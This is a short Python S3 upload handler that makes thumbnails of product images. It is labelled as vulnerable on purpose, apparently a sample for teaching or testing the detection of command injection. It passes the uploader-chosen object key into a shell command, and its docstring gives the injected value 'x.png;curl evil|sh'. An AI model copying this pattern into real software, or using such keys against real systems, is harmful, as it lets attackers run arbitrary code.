"""S3 ObjectCreated: make a thumbnail of each uploaded product image.

VULNERABLE ON PURPOSE: the object key (chosen by whoever uploads) goes into a shell
command line (D1, command injection): a key like ``x.png;curl evil|sh`` runs.
"""

import subprocess
import urllib.parse


def process_upload(event, context):
    for record in event["Records"]:
        bucket = record["s3"]["bucket"]["name"]
        key = urllib.parse.unquote_plus(record["s3"]["object"]["key"])
        subprocess.run(
            f"aws s3 cp s3://{bucket}/{key} /tmp/in && convert /tmp/in -resize 200x200 /tmp/thumb.png",
            shell=True,
            check=True,
        )
    return {"processed": len(event["Records"])}
